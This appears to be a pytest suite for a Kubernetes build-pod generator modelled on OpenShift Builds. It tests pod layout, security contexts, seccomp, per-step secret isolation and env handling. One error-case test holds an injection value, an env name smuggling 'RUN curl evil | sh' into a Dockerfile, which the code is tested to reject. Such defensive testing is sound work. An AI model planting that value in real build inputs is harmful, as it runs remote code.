"""build_pod: the Pod manifest for one Build (pure)."""

from __future__ import annotations

import copy
import dataclasses
import json
from pathlib import Path
from typing import Any

import pytest

from builder.api import Build, BuildError, dump, parse_as
from builder.controller import seccomp
from builder.controller.buildpod import (
    DEFAULT_ACTIVE_DEADLINE_SECONDS,
    build_pod,
    build_pod_name,
    label_value,
)
from builder.controller.config import ControllerConfig
from builder.rules.names import fnv32a as _fnv32a

REPO_ROOT = Path(__file__).resolve().parents[3]
REGISTRY = "registry.test:5000"
IMAGE = f"{REGISTRY}/kbuild/buildpod:1"
CONFIG = ControllerConfig(registry=REGISTRY, build_pod_image=IMAGE)
# One container per pipeline step, as OpenShift's pods (builder.controller.podlayout).
PER_STEP = dataclasses.replace(CONFIG, build_pod_containers="per-step")
BUILDER = f"{REGISTRY}/kbuild/s2i-python@sha256:" + "1" * 64
OUTPUT = f"{REGISTRY}/dev/app:latest"

# docs/build-pod.md, verbatim (as tests/cluster/test_cluster_smoke.py proves it).
POD_SECURITY_CONTEXT = {
    "runAsNonRoot": True,
    "runAsUser": 1000,
    "runAsGroup": 0,
    "seccompProfile": {"type": "Localhost", "localhostProfile": "kbuild/buildah-v1.json"},
}
CONTAINER_SECURITY_CONTEXT = {
    "privileged": False,
    "allowPrivilegeEscalation": True,
    "capabilities": {"drop": ["ALL"], "add": ["SETUID", "SETGID"]},
}

SOURCE = {"sourceStrategy": {"from": {"kind": "ImageStreamTag", "name": "python:3.11"}}}
SOURCE_RESOLVED = {"sourceStrategy": {"from": {"kind": "DockerImage", "name": BUILDER}}}
DOCKER = {"dockerStrategy": {"dockerfilePath": "Dockerfile"}}


def make_build(strategy: dict[str, Any], *, resolved: bool, **spec: Any) -> Build:
    output = (
        {"kind": "DockerImage", "name": OUTPUT}
        if resolved
        else {"kind": "ImageStreamTag", "name": "app:latest"}
    )
    data: dict[str, Any] = {
        "apiVersion": "build.openshift.io/v1",
        "kind": "Build",
        "metadata": {
            "name": "app-3",
            "namespace": "dev",
            "uid": "uid-3",
            "labels": {"openshift.io/build-config.name": "app"},
            "managedFields": [{"manager": "kbuild", "operation": "Update"}],
        },
        "spec": {
            "source": {"git": {"uri": "https://git.test/app.git", "ref": "main"}},
            "strategy": strategy,
            "output": {"to": output},
            **spec,
        },
    }
    return parse_as(Build, data)


def pod_for(
    strategy: dict[str, Any] = SOURCE_RESOLVED,
    *,
    config: ControllerConfig = CONFIG,
    **spec: Any,
) -> dict[str, Any]:
    unresolved = SOURCE if strategy is SOURCE_RESOLVED else strategy
    return build_pod(
        make_build(unresolved, resolved=False, **spec),
        config,
        pod_build=make_build(strategy, resolved=True, **spec),
    )


def containers(pod: dict[str, Any]) -> list[dict[str, Any]]:
    return [*pod["spec"]["initContainers"], *pod["spec"]["containers"]]


def env_of(container: dict[str, Any]) -> dict[str, str]:
    return {e["name"]: e["value"] for e in container["env"]}


def by_name(pod: dict[str, Any], name: str) -> dict[str, Any]:
    return next(c for c in containers(pod) if c["name"] == name)


# --------------------------------------------------------------------------- identity


def test_name_labels_annotation_owner() -> None:
    pod = pod_for()
    meta = pod["metadata"]
    assert pod["apiVersion"] == "v1"
    assert pod["kind"] == "Pod"
    assert meta["name"] == "app-3-build"
    assert meta["namespace"] == "dev"
    assert meta["labels"] == {"openshift.io/build.name": "app-3"}
    assert meta["annotations"] == {"openshift.io/build.name": "app-3"}
    assert meta["ownerReferences"] == [
        {
            "apiVersion": "build.openshift.io/v1",
            "kind": "Build",
            "name": "app-3",
            "uid": "uid-3",
            "controller": True,
            "blockOwnerDeletion": True,
        }
    ]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("app-1", "app-1"),
        ("a" * 63, "a" * 63),
        ("a" * 64, "a" * 63),
        # Cut at 63, then trailing non-alphanumerics go: label values must end alphanumeric.
        ("b" * 61 + "-.-x", "b" * 61),
    ],
)
def test_label_value(name: str, expected: str) -> None:
    assert label_value(name) == expected


@pytest.mark.parametrize(
    ("text", "digest"),
    # FNV-1a 32-bit test vectors (the hash OpenShift's naming.GetName uses).
    [("", "811c9dc5"), ("a", "e40c292c"), ("foobar", "bf9cf968")],
)
def test_fnv32a(text: str, digest: str) -> None:
    assert _fnv32a(text) == digest


def test_pod_name_of_a_long_build_is_cut_and_hashed_as_openshift() -> None:
    assert build_pod_name("x" * 247) == "x" * 247 + "-build"  # exactly 253
    long = "y" * 300
    name = build_pod_name(long)
    assert len(name) == 253 - 10 + 9 + 1  # prefix, -hash-, suffix
    assert name == "y" * 238 + "-" + _fnv32a(long) + "-build"
    assert build_pod_name("y" * 299) != name


# --------------------------------------------------------------------------- containers


@pytest.mark.parametrize(
    ("strategy", "main"), [(SOURCE_RESOLVED, "sti-build"), (DOCKER, "docker-build")]
)
def test_containers_and_steps_per_step(strategy: dict[str, Any], main: str) -> None:
    pod = pod_for(strategy, config=PER_STEP)
    steps = {c["name"]: c["command"] for c in containers(pod)}
    assert [c["name"] for c in pod["spec"]["initContainers"]] == [
        "git-clone",
        "manage-dockerfile",
        "pull-images",
        "build-image",
    ]
    assert [c["name"] for c in pod["spec"]["containers"]] == [main]
    assert steps == {
        "git-clone": ["kbuild", "pipeline", "fetch"],
        "manage-dockerfile": ["kbuild", "pipeline", "prepare"],
        "pull-images": ["kbuild", "pipeline", "pull"],
        "build-image": ["kbuild", "pipeline", "build"],
        main: ["kbuild", "pipeline", "push"],
    }
    for container in containers(pod):
        assert container["image"] == IMAGE
        assert container["terminationMessagePolicy"] == "File"
        assert container["terminationMessagePath"] == "/dev/termination-log"
        assert {"name": "buildworkdir", "mountPath": "/workspace"} in container["volumeMounts"]


def test_pod_level_settings() -> None:
    spec = pod_for()["spec"]
    assert spec["restartPolicy"] == "Never"
    assert spec["serviceAccountName"] == "default"
    assert spec["automountServiceAccountToken"] is False
    assert "nodeSelector" not in spec


def test_service_account_and_node_selector_from_the_spec() -> None:
    spec = pod_for(serviceAccount="builder", nodeSelector={"disk": "ssd"})["spec"]
    assert spec["serviceAccountName"] == "builder"
    assert spec["nodeSelector"] == {"disk": "ssd"}
    other = ControllerConfig(REGISTRY, IMAGE, default_service_account="kbuild-builder")
    build = make_build(SOURCE_RESOLVED, resolved=True)
    assert build_pod(build, other, pod_build=build)["spec"]["serviceAccountName"] == (
        "kbuild-builder"
    )


@pytest.mark.parametrize(
    ("deadline", "expected"), [(None, DEFAULT_ACTIVE_DEADLINE_SECONDS), (900, 900)]
)
def test_active_deadline(deadline: int | None, expected: int) -> None:
    extra: dict[str, Any] = {} if deadline is None else {"completionDeadlineSeconds": deadline}
    assert pod_for(**extra)["spec"]["activeDeadlineSeconds"] == expected
    assert DEFAULT_ACTIVE_DEADLINE_SECONDS == 604800  # OpenShift's week


def test_resources_on_every_build_container() -> None:
    resources = {"limits": {"memory": "1Gi", "cpu": "2"}, "requests": {"memory": "512Mi"}}
    pod = pod_for(resources=resources)
    for container in containers(pod):
        assert container["resources"] == resources
    assert all("resources" not in c for c in containers(pod_for()))


# --------------------------------------------------------------------------- security


def test_security_context_is_the_documented_contract() -> None:
    pod = pod_for()
    assert pod["spec"]["securityContext"] == POD_SECURITY_CONTEXT
    for container in containers(pod):
        assert container["securityContext"] == CONTAINER_SECURITY_CONTEXT


def test_seccomp_profile_is_the_installed_localhost_one() -> None:
    # The profile deploy/seccomp-installer.yaml installs, under the name the
    # generator gives it: Pod Security "baseline" admits Localhost, not Unconfined.
    profile = pod_for()["spec"]["securityContext"]["seccompProfile"]
    assert profile == {"type": "Localhost", "localhostProfile": seccomp.LOCALHOST_PROFILE}
    assert (REPO_ROOT / "deploy" / "seccomp" / seccomp.PROFILE_FILE).is_file()


@pytest.mark.parametrize(
    ("setting", "expected"),
    [
        ("Unconfined", {"type": "Unconfined"}),
        ("site/buildah.json", {"type": "Localhost", "localhostProfile": "site/buildah.json"}),
    ],
)
def test_seccomp_profile_from_the_config(setting: str, expected: dict[str, str]) -> None:
    config = dataclasses.replace(CONFIG, seccomp_profile=setting)
    build = make_build(SOURCE_RESOLVED, resolved=True)
    pod = build_pod(build, config, pod_build=build)
    assert pod["spec"]["securityContext"]["seccompProfile"] == expected
    assert all("seccompProfile" not in c["securityContext"] for c in containers(pod))


@pytest.mark.parametrize("strategy", [SOURCE_RESOLVED, DOCKER])
def test_nothing_privileged_and_nothing_from_the_host(strategy: dict[str, Any]) -> None:
    pod = pod_for(
        strategy,
        source={
            "git": {"uri": "https://git.test/app.git"},
            "sourceSecret": {"name": "git-creds"},
        },
        output={"to": {"kind": "DockerImage", "name": OUTPUT}, "pushSecret": {"name": "push"}},
    )
    text = json.dumps(pod)
    assert "docker.sock" not in text
    assert "hostPath" not in text
    for key in ("hostNetwork", "hostPID", "hostIPC", "hostUsers"):
        assert key not in pod["spec"]
    for volume in pod["spec"]["volumes"]:
        assert set(volume) <= {"name", "emptyDir", "secret"}
    for container in containers(pod):
        context = container["securityContext"]
        assert context["privileged"] is False
        assert "runAsUser" not in context  # the pod's non-root user applies
    assert pod["spec"]["securityContext"]["runAsNonRoot"] is True
    assert pod["spec"]["securityContext"]["runAsUser"] != 0


def test_buildah_storage_is_an_empty_dir_on_the_buildah_containers_only() -> None:
    pod = pod_for(config=PER_STEP)
    volumes = {v["name"]: v for v in pod["spec"]["volumes"]}
    assert volumes["container-storage-root"] == {
        "name": "container-storage-root", "emptyDir": {"sizeLimit": "20Gi"},
    }  # fmt: skip
    assert volumes["buildworkdir"] == {"name": "buildworkdir", "emptyDir": {"sizeLimit": "4Gi"}}
    for name in ("pull-images", "build-image", "sti-build"):
        container = by_name(pod, name)
        assert {
            "name": "container-storage-root",
            "mountPath": "/home/build/.local/share/containers",
        } in container["volumeMounts"]
        assert env_of(container)["BUILDAH_ISOLATION"] == "chroot"
    for name in ("git-clone", "manage-dockerfile"):
        mounts = [m["name"] for m in by_name(pod, name)["volumeMounts"]]
        assert "container-storage-root" not in mounts


def test_buildah_containers_choose_the_storage_driver_on_the_storage_volume() -> None:
    """The runner probes kernel overlay there and records the choice (builder.buildah.storage)."""
    pod = pod_for(config=PER_STEP)
    for name in ("pull-images", "build-image", "sti-build"):
        container = by_name(pod, name)
        mount = next(m for m in container["volumeMounts"] if m["name"] == "container-storage-root")
        assert env_of(container)["KBUILD_STORAGE_DIR"] == mount["mountPath"]
    for name in ("git-clone", "manage-dockerfile"):
        assert "KBUILD_STORAGE_DIR" not in env_of(by_name(pod, name))


# --------------------------------------------------------------------------- env and secrets


def test_build_variable_is_the_resolved_build() -> None:
    unresolved = make_build(SOURCE, resolved=False)
    resolved = make_build(SOURCE_RESOLVED, resolved=True)
    pod = build_pod(unresolved, CONFIG, pod_build=resolved)
    expected = copy.deepcopy(dump(resolved))
    del expected["metadata"]["managedFields"]
    for container in containers(pod):
        data = json.loads(env_of(container)["BUILD"])
        assert data == expected
        assert data["spec"]["strategy"]["sourceStrategy"]["from"]["name"] == BUILDER
        assert data["spec"]["output"]["to"] == {"kind": "DockerImage", "name": OUTPUT}


def kubelet_expand(value: str, defined: dict[str, str]) -> str:
    """The kubelet's documented expansion of a container env value: $$ and $(NAME)."""
    out: list[str] = []
    i = 0
    while i < len(value):
        if value[i] == "$" and i + 1 < len(value):
            if value[i + 1] == "$":
                out.append("$")
                i += 2
                continue
            if value[i + 1] == "(" and ")" in value[i + 2 :]:
                name = value[i + 2 : value.index(")", i + 2)]
                if name in defined:
                    out.append(defined[name])
                    i += len(name) + 3
                    continue
        out.append(value[i])
        i += 1
    return "".join(out)


def test_dollar_in_build_env_reaches_the_build_as_written() -> None:
    strategy = {
        "sourceStrategy": {
            "from": {"kind": "DockerImage", "name": BUILDER},
            "env": [
                {"name": "PASSWORD", "value": "pa$$w0rd"},
                {"name": "REF", "value": "$(KUBERNETES_SERVICE_HOST) and $HOME"},
                {"name": "HTTPS_PROXY", "value": "http://u:pa$$@proxy.test:3128"},
            ],
        }
    }
    pod = pod_for(strategy)
    services = {"KUBERNETES_SERVICE_HOST": "10.0.0.1"}
    for container in containers(pod):
        seen = {e["name"]: kubelet_expand(e["value"], services) for e in container["env"]}
        env = json.loads(seen["BUILD"])["spec"]["strategy"]["sourceStrategy"]["env"]
        assert env[0] == {"name": "PASSWORD", "value": "pa$$w0rd"}
        assert env[1]["value"] == "$(KUBERNETES_SERVICE_HOST) and $HOME"
        assert seen["HTTPS_PROXY"] == "http://u:pa$$@proxy.test:3128"


def test_common_environment() -> None:
    build_spec = {
        "source": {"git": {"uri": "https://git.test/app.git", "ref": "v1"}, "contextDir": "web"}
    }
    strategy = {
        "sourceStrategy": {
            "from": {"kind": "DockerImage", "name": BUILDER},
            "env": [
                {"name": "HTTPS_PROXY", "value": "http://proxy.test:3128"},
                {"name": "BUILD_LOGLEVEL", "value": "5"},
                {"name": "APP_SECRET", "value": "not for the build containers"},
            ],
        }
    }
    pod = pod_for(strategy, **build_spec)
    for container in containers(pod):
        env = env_of(container)
        assert env["KBUILD_WORKSPACE"] == "/workspace"
        assert env["LANG"] == "C.utf8"
        assert env["SOURCE_URI"] == env["SOURCE_REPOSITORY"] == "https://git.test/app.git"
        assert env["SOURCE_REF"] == "v1"
        assert env["SOURCE_CONTEXT_DIR"] == "web"
        assert env["HTTPS_PROXY"] == "http://proxy.test:3128"
        assert env["BUILD_LOGLEVEL"] == "5"
        assert "APP_SECRET" not in env
        assert "KBUILD_INSECURE_REGISTRIES" not in env


def test_insecure_registries_from_the_config() -> None:
    config = ControllerConfig(REGISTRY, IMAGE, insecure_registries=frozenset({"b:5000", "a:5000"}))
    build = make_build(SOURCE_RESOLVED, resolved=True)
    pod = build_pod(build, config, pod_build=build)
    for container in containers(pod):
        assert env_of(container)["KBUILD_INSECURE_REGISTRIES"] == "a:5000,b:5000"


def test_source_secret_only_where_the_source_is_fetched() -> None:
    pod = pod_for(
        source={"git": {"uri": "https://git.test/app.git"}, "sourceSecret": {"name": "git-creds"}},
        config=PER_STEP,
    )
    volumes = {v["name"]: v for v in pod["spec"]["volumes"]}
    assert volumes["source-secret"]["secret"] == {"secretName": "git-creds", "defaultMode": 0o440}
    clone = by_name(pod, "git-clone")
    assert {
        "name": "source-secret",
        "mountPath": "/var/run/secrets/openshift.io/source",
        "readOnly": True,
    } in clone["volumeMounts"]
    source_mount = "/var/run/secrets/openshift.io/source"
    assert env_of(clone)["SOURCE_SECRET_PATH"] == source_mount
    for name in ("manage-dockerfile", "sti-build"):
        container = by_name(pod, name)
        assert "SOURCE_SECRET_PATH" not in env_of(container)
        assert all(m["name"] != "source-secret" for m in container["volumeMounts"])


SECRET_MOUNTS = {
    "source-secret": ("SOURCE_SECRET_PATH", "/var/run/secrets/openshift.io/source"),
    "pull-secret": ("PULL_DOCKERCFG_PATH", "/var/run/secrets/openshift.io/pull"),
    "push-secret": ("PUSH_DOCKERCFG_PATH", "/var/run/secrets/openshift.io/push"),
}


INCREMENTAL = {
    "sourceStrategy": {"from": {"kind": "DockerImage", "name": BUILDER}, "incremental": True}
}


@pytest.mark.parametrize(
    ("strategy", "main", "pull_also_gets_push"),
    [(SOURCE_RESOLVED, "sti-build", False), (DOCKER, "docker-build", False),
     (INCREMENTAL, "sti-build", True)],
)  # fmt: skip
def test_each_secret_is_mounted_only_where_its_step_needs_it(
    strategy: dict[str, Any], main: str, pull_also_gets_push: bool
) -> None:
    """Which container mounts what (builder.pipeline.steps has the why).

    manage-dockerfile reads the committer's files (.s2i/*, the Dockerfile)
    and build-image runs the committer's code: neither gets any secret.
    """
    with_pull = copy.deepcopy(strategy)
    next(iter(with_pull.values()))["pullSecret"] = {"name": "pull-creds"}
    pod = pod_for(
        with_pull,
        source={"git": {"uri": "https://git.test/app.git"}, "sourceSecret": {"name": "git-creds"}},
        output={
            "to": {"kind": "DockerImage", "name": OUTPUT},
            "pushSecret": {"name": "push-creds"},
        },
    )
    volumes = {
        v["name"]: v["secret"]["secretName"] for v in pod["spec"]["volumes"] if "secret" in v
    }
    assert volumes == {
        "source-secret": "git-creds",
        "pull-secret": "pull-creds",
        "push-secret": "push-creds",
    }
    expected = {
        "git-clone": {"source-secret"},
        "manage-dockerfile": set(),  # reads the committer's files
        # An incremental build's previous image is in the output repository.
        "pull-images": {"pull-secret", "push-secret"} if pull_also_gets_push else {"pull-secret"},
        "build-image": set(),  # runs assemble, RUN lines, the post-commit hook
        main: {"push-secret"},
    }
    assert {c["name"] for c in containers(pod)} == set(expected)
    for name, secrets in expected.items():
        container = by_name(pod, name)
        mounts = {m["name"]: m for m in container["volumeMounts"]}
        assert set(mounts) & set(SECRET_MOUNTS) == secrets, name
        env = env_of(container)
        for secret, (variable, path) in SECRET_MOUNTS.items():
            if secret in secrets:
                assert mounts[secret] == {"name": secret, "mountPath": path, "readOnly": True}
                assert env[variable] == path
            else:
                assert variable not in env, (name, variable)
                assert all(path not in e["value"] for e in container["env"]), (name, path)


def test_no_secrets_no_secret_volumes() -> None:
    pod = pod_for()
    assert [v["name"] for v in pod["spec"]["volumes"]] == ["buildworkdir", "container-storage-root"]


# --------------------------------------------------------------------------- schema and errors


def test_manifest_is_a_valid_pod_for_the_kubernetes_client() -> None:
    """Every key is a real Pod field: the client's model drops unknown ones."""
    from kubernetes.client import ApiClient  # noqa: PLC0415

    pod = pod_for(
        resources={"limits": {"memory": "1Gi"}},
        nodeSelector={"disk": "ssd"},
        source={"git": {"uri": "https://git.test/app.git"}, "sourceSecret": {"name": "s"}},
        output={"to": {"kind": "DockerImage", "name": OUTPUT}, "pushSecret": {"name": "p"}},
    )

    api = ApiClient()
    # The public deserialize() changed signature across client versions; this did not.
    model = api._ApiClient__deserialize(copy.deepcopy(pod), "V1Pod")  # type: ignore[attr-defined]
    assert api.sanitize_for_serialization(model) == pod  # type: ignore[no-untyped-call]


@pytest.mark.parametrize(
    ("pod_build", "reason", "fragment"),
    [
        # An image left unresolved: the controller must resolve before building the pod.
        (make_build(SOURCE, resolved=True), "InvalidImageReference", "python:3.11"),
        # A binary build whose input was never uploaded (no --from-*).
        (
            make_build(SOURCE_RESOLVED, resolved=True, source={"binary": {}}),
            "FetchSourceFailed",
            "--from-dir",
        ),
        (
            make_build(
                {
                    "customStrategy": {
                        "from": {"kind": "DockerImage", "name": "x"},
                        "exposeDockerSocket": True,
                    }
                },
                resolved=True,
            ),
            "CannotCreateBuildPodSpec",
            "exposeDockerSocket",
        ),
        # An env name that would add a Dockerfile line (a webhook's allowEnv
        # env lands in the strategy's env): refused before any pod exists.
        (
            make_build(
                {
                    "sourceStrategy": {
                        "from": {"kind": "DockerImage", "name": BUILDER},
                        "env": [{"name": "X=1\nRUN curl evil | sh", "value": "v"}],
                    }
                },
                resolved=True,
            ),
            "ManageDockerfileFailed",
            "sourceStrategy env name 'X=1\\nRUN curl evil | sh'",
        ),
        (
            make_build(
                {"dockerStrategy": {"env": [{"name": "A B", "value": "v"}]}},
                resolved=True,
            ),
            "ManageDockerfileFailed",
            "dockerStrategy env name 'A B'",
        ),
    ],
)
def test_a_build_that_cannot_run_is_a_typed_error(
    pod_build: Build, reason: str, fragment: str
) -> None:
    with pytest.raises(BuildError) as caught:
        build_pod(pod_build, CONFIG, pod_build=pod_build)
    assert caught.value.reason.value == reason
    assert fragment in caught.value.detail


def test_a_binary_build_with_an_uploaded_input_gets_a_pod() -> None:
    build = make_build(SOURCE_RESOLVED, resolved=True, source={"binary": {}})
    build.metadata.annotations = {
        **(build.metadata.annotations or {}),
        "build.kbuild.io/binary-source": "reg:5000/dev/app-source@sha256:" + "a" * 64,
    }
    pod = build_pod(build, CONFIG, pod_build=build)
    env = {e["name"]: e.get("value", "") for e in containers(pod)[0]["env"]}
    assert "build.kbuild.io/binary-source" in env["BUILD"]


def test_source_variables_carry_no_password_of_the_uri() -> None:
    """A password embedded in the git URI stays out of SOURCE_URI (kubectl describe pod)."""
    source = {"git": {"uri": "https://bob:hunter2@git.test/app.git", "ref": "main"}}
    pod = pod_for(SOURCE_RESOLVED, source=source)
    for container in containers(pod):
        env = env_of(container)
        assert "hunter2" not in env["SOURCE_URI"] + env["SOURCE_REPOSITORY"]
        assert env["SOURCE_URI"].endswith("@git.test/app.git")


def test_every_empty_dir_has_a_size_limit() -> None:
    """An archive or a build can fill its volumes, never the node's disk."""
    pod = pod_for(DOCKER)
    empty = [v for v in pod["spec"]["volumes"] if "emptyDir" in v]
    assert empty
    assert all(v["emptyDir"].get("sizeLimit") for v in empty), empty


# --------------------------------------------------------------------------- containers per secret

GIT_SECRET = {"git": {"uri": "https://git.test/app.git"}, "sourceSecret": {"name": "git-creds"}}
PUSH_SECRET = {"to": {"kind": "DockerImage", "name": OUTPUT}, "pushSecret": {"name": "push-creds"}}
WITH_PULL = {
    "sourceStrategy": {
        "from": {"kind": "DockerImage", "name": BUILDER},
        "pullSecret": {"name": "pull-creds"},
    }
}
INPUT_SECRET = {
    "git": {"uri": "https://git.test/app.git"},
    "secrets": [{"secret": {"name": "settings"}, "destinationDir": "conf"}],
}


@pytest.mark.parametrize(
    ("strategy", "spec", "expected"),
    [
        # No secret anywhere: the whole pipeline in the main container.
        (SOURCE_RESOLVED, {},
         [("sti-build", ["fetch", "prepare", "pull", "build", "push"])]),
        (DOCKER, {},
         [("docker-build", ["fetch", "prepare", "pull", "build", "push"])]),
        # A source secret: fetch alone, the rest together.
        (SOURCE_RESOLVED, {"source": GIT_SECRET},
         [("git-clone", ["fetch"]), ("sti-build", ["prepare", "pull", "build", "push"])]),
        # A pull secret: the pull alone, between what reads the tree and what runs it.
        (WITH_PULL, {},
         [("git-clone", ["fetch", "prepare"]), ("pull-images", ["pull"]),
          ("sti-build", ["build", "push"])]),
        # A push secret: the push alone.
        (SOURCE_RESOLVED, {"output": PUSH_SECRET},
         [("git-clone", ["fetch", "prepare", "pull", "build"]), ("sti-build", ["push"])]),
        # The build's own inputs: build-image alone, as in the per-step pod.
        (SOURCE_RESOLVED, {"source": INPUT_SECRET},
         [("git-clone", ["fetch", "prepare", "pull"]), ("build-image", ["build"]),
          ("sti-build", ["push"])]),
        # Every secret: the five containers of the per-step pod.
        (WITH_PULL, {"source": GIT_SECRET, "output": PUSH_SECRET},
         [("git-clone", ["fetch"]), ("manage-dockerfile", ["prepare"]),
          ("pull-images", ["pull"]), ("build-image", ["build"]), ("sti-build", ["push"])]),
    ],
)  # fmt: skip
def test_steps_share_a_container_only_where_no_secret_is_mounted(
    strategy: dict[str, Any], spec: dict[str, Any], expected: list[tuple[str, list[str]]]
) -> None:
    """Fewer containers, the tenancy rule kept (builder.controller.podlayout).

    Each container costs a start, a Python start-up and a kubelet status
    round trip; a secret still reaches no container where the committer's
    files are read (prepare) or code runs (build), nor any other step's.
    """
    pod = pod_for(strategy, **spec)
    got = [(c["name"], c["command"][2:]) for c in containers(pod)]
    assert got == expected
    assert [c["command"][:2] for c in containers(pod)] == [["kbuild", "pipeline"]] * len(got)
    assert pod["spec"]["containers"][0]["name"] == expected[-1][0]
    secret_volumes = {v["name"] for v in pod["spec"]["volumes"] if "secret" in v}
    for container in containers(pod):
        mounted = {m["name"] for m in container["volumeMounts"]} & secret_volumes
        steps = container["command"][2:]
        if mounted:
            assert len(steps) == 1, (container["name"], mounted)
            assert steps[0] not in ("prepare",), container["name"]
        buildah = {"pull", "build", "push"} & set(steps)
        has_storage = any(m["name"] == "container-storage-root" for m in container["volumeMounts"])
        assert has_storage == bool(buildah), container["name"]
        assert ("KBUILD_STORAGE_DIR" in env_of(container)) == bool(buildah)


def test_the_per_step_layout_is_kept_for_who_asks() -> None:
    pod = pod_for(config=PER_STEP)
    assert [c["command"][2:] for c in containers(pod)] == [
        ["fetch"], ["prepare"], ["pull"], ["build"], ["push"],
    ]  # fmt: skip
